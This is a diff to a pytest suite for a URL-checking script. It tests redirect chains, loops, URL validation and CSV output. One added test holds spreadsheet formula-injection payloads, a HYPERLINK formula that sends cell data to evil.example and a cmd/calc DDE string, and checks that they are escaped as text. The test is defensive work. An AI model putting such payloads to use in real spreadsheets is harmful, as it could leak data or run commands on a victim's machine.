@@ -1,5 +1,6 @@
-"""url_checker.py against a local test site: what it reports for a page, a redirect, a 404, a page too slow, a host
-that does not exist; how many URLs it checks at once; the CSV it writes; and the starter notebook, run headless."""
+"""url_checker.py against a local test site: what it reports for a page, each hop of a redirect chain, a loop, a 404,
+a page too slow, a host that does not exist; how many URLs it checks at once; the CSV it writes (safe to open in a
+spreadsheet); and the starter notebook, run headless."""
 
 import asyncio
 import csv
@@ -25,11 +26,20 @@ class LocalSite:
         self.app = Starlette(routes=[
             Route("/", lambda request: HTMLResponse("<html><head><title>\n Home &amp; garden\n</title></head></html>")),
             Route("/old", lambda request: RedirectResponse("/", 301)),
+            Route("/hop/{n:int}", self.hop),
+            Route("/loop", lambda request: RedirectResponse("/loop-back", 302)),
+            Route("/loop-back", lambda request: RedirectResponse("/loop", 307)),
+            Route("/forever/{n:int}", lambda request: RedirectResponse(f"/forever/{request.path_params['n'] + 1}")),
             Route("/missing", lambda request: HTMLResponse("<title>Not found</title>", 404)),
             Route("/plain", lambda request: PlainTextResponse("<title>not a page</title>")),
             Route("/slow", self.slow),
             Route("/busy/{n}", self.busy),
         ])
+
+    def hop(self, request):
+        "/hop/3 answers 301 to /hop/2, which answers 302 to /hop/1, 307 to /hop/0, and that one 308 to /."
+        n = request.path_params["n"]
+        return RedirectResponse(f"/hop/{n - 1}" if n > 1 else "/", {4: 301, 3: 302, 2: 307, 1: 308}[n])
 
     async def slow(self, request):
         await asyncio.sleep(3)
@@ -63,28 +73,52 @@ def test_a_pasted_list_becomes_urls_without_blanks_repeats_or_junk():
         not a url
         ftp://example.com/file
         https://-bad-.example
+        nope
+        https://intranet/
         127.0.0.1:5001/page
+        http://localhost:8000/
+        http://[::1]:8000/
     """)
-    assert urls == ["https://example.com/a", "http://example.org:8080/x?y=1", "https://127.0.0.1:5001/page"]
-    assert invalid == ["not a url", "ftp://example.com/file", "https://-bad-.example"]
+    assert urls == ["https://example.com/a", "http://example.org:8080/x?y=1", "https://127.0.0.1:5001/page",
+                    "http://localhost:8000/", "http://[::1]:8000/"]
+    assert invalid == [("not a url", "it has spaces in it"), ("ftp://example.com/file", "ftp: is not http or https"),
+                       ("https://-bad-.example", "-bad-.example is not a host name"),
+                       ("nope", "there is no dot in the host"), ("https://intranet/", "there is no dot in the host")]
 
 
 def test_a_page_gives_its_status_title_and_time(site):
     [home] = check(f"{site.url}/")
-    assert (home.status, home.title, home.error) == (200, "Home & garden", None)
-    assert home.final_url == f"{site.url}/" and not home.redirected
+    assert (home.status, home.final_status, home.title, home.error) == (200, 200, "Home & garden", None)
+    assert (home.final_url, home.redirects, home.hops, home.flag) == (f"{site.url}/", 0, [home.hops[0]], "")
     assert 0 < home.seconds < 1
 
 
-def test_a_redirect_gives_where_it_leads(site):
+def test_a_redirect_answers_its_own_code_and_gives_where_it_leads(site):
     [old] = check(f"{site.url}/old")
-    assert (old.status, old.final_url, old.title) == (200, f"{site.url}/", "Home & garden")
-    assert old.redirected
+    assert (old.status, old.redirects, old.final_url, old.final_status) == (301, 1, f"{site.url}/", 200)
+    assert old.title == "Home & garden" and old.flag == ""
+    assert old.chain == f"301 {site.url}/old → 200 {site.url}/"
+
+
+def test_every_hop_of_a_chain_keeps_its_code_and_a_chain_is_flagged(site):
+    [chain] = check(f"{site.url}/hop/4")
+    assert [(hop["url"], hop["status"]) for hop in chain.hops] == [
+        (f"{site.url}/hop/4", 301), (f"{site.url}/hop/3", 302), (f"{site.url}/hop/2", 307),
+        (f"{site.url}/hop/1", 308), (f"{site.url}/", 200)]
+    assert (chain.status, chain.redirects, chain.final_status, chain.flag) == (301, 4, 200, "chain of 4 redirects")
+
+
+def test_a_redirect_loop_and_an_endless_chain_are_errors_flagged_as_such(site):
+    loop, endless = check(f"{site.url}/loop", f"{site.url}/forever/0")
+    assert [hop["status"] for hop in loop.hops] == [302, 307] and loop.final_status is None
+    assert (loop.flag, loop.error) == ("redirect loop", f"Redirect loop: {site.url}/loop redirects back to itself")
+    assert (endless.flag, endless.error) == ("too many redirects", "More than 10 redirects")
+    assert endless.redirects == len(endless.hops) == 11 and endless.final_url is None
 
 
 def test_a_missing_page_gives_its_404(site):
     [missing] = check(f"{site.url}/missing")
-    assert (missing.status, missing.title, missing.error) == (404, "Not found", None)
+    assert (missing.status, missing.final_status, missing.title, missing.error) == (404, 404, "Not found", None)
 
 
 def test_a_title_is_read_from_html_only(site):
@@ -125,20 +159,32 @@ def test_each_result_is_reported_as_soon_as_it_is_ready(site):
     assert [r.url for r in results] == [f"{site.url}/busy/1", f"{site.url}/"]
 
 
-def test_results_are_saved_as_csv_under_data(tmp_path, monkeypatch):
+def test_results_are_saved_as_csv_under_data_with_every_hop(tmp_path, monkeypatch):
     monkeypatch.setattr(url_checker, "CHECKS_DIR", tmp_path / "url_checks")
-    results = [UrlCheck("https://a.example/", 301, "https://a.example/new", "New, \"quoted\" title", 0.12),
+    hops = [{"url": "https://a.example/", "status": 301}, {"url": "https://a.example/new", "status": 200}]
+    results = [UrlCheck("https://a.example/", hops, "https://a.example/new", 200, "New, \"quoted\" title", 0.12),
                UrlCheck("https://b.example/", seconds=1.0, error="Timed out after 1 s")]
     path = write_csv(results, "run 7/../x")
     assert path == tmp_path / "url_checks" / "run_7_.._x.csv"
     with path.open(newline="") as file:
         rows = list(csv.DictReader(file))
     assert rows == [
-        {"url": "https://a.example/", "status": "301", "final_url": "https://a.example/new",
-         "title": 'New, "quoted" title', "seconds": "0.12", "error": ""},
-        {"url": "https://b.example/", "status": "", "final_url": "", "title": "", "seconds": "1.0",
-         "error": "Timed out after 1 s"}]
+        {"url": "https://a.example/", "status": "301", "redirects": "1",
+         "chain": "301 https://a.example/ → 200 https://a.example/new", "final_url": "https://a.example/new",
+         "final_status": "200", "title": 'New, "quoted" title', "seconds": "0.12", "flag": "", "error": ""},
+        {"url": "https://b.example/", "status": "", "redirects": "0", "chain": "", "final_url": "",
+         "final_status": "", "title": "", "seconds": "1.0", "flag": "", "error": "Timed out after 1 s"}]
     assert write_csv(results).parent == tmp_path / "url_checks"  # a run without a name is named for the time
+
+
+def test_a_title_that_a_spreadsheet_would_run_goes_into_the_csv_as_text(tmp_path, monkeypatch):
+    monkeypatch.setattr(url_checker, "CHECKS_DIR", tmp_path)
+    titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+              "\tTabbed", "\rReturned", "-5", "A = B"]
+    path = write_csv([UrlCheck(f"https://a.example/{n}", title=title) for n, title in enumerate(titles)])
+    with path.open(newline="") as file:
+        written = [row["title"] for row in csv.DictReader(file)]
+    assert written == ["'" + title for title in titles[:6]] + ["-5", "A = B"]
 
 
 @pytest.mark.skipif(not NOTEBOOK.exists(), reason="rendered without JupyterLab")
@@ -155,9 +201,9 @@ def test_the_starter_notebook_checks_urls_headless(site, tmp_path, monkeypatch):
     outputs = [o for cell in notebook.cells if cell.cell_type == "code" for o in cell.outputs]
     assert not [o for o in outputs if o.output_type == "error"]
     text = "".join(o.get("text", "") for o in outputs)
-    assert "3 URLs to check" in text and "Not a URL, skipped: not a url" in text
-    assert f"->  {site.url}/" in text and "Home & garden" in text
+    assert "3 URLs to check" in text and "Not a URL, skipped: not a url (it has spaces in it)" in text
+    assert f"301 {site.url}/old → 200 {site.url}/" in text and "Home & garden" in text
     [saved] = (tmp_path / "data" / "url_checks").glob("*.csv")
     with saved.open(newline="") as file:
-        assert [(row["url"], row["status"]) for row in csv.DictReader(file)] == [
-            (f"{site.url}/", "200"), (f"{site.url}/old", "200"), (f"{site.url}/missing", "404")]
+        assert [(row["url"], row["status"], row["final_status"]) for row in csv.DictReader(file)] == [
+            (f"{site.url}/", "200", "200"), (f"{site.url}/old", "301", "200"), (f"{site.url}/missing", "404", "404")]
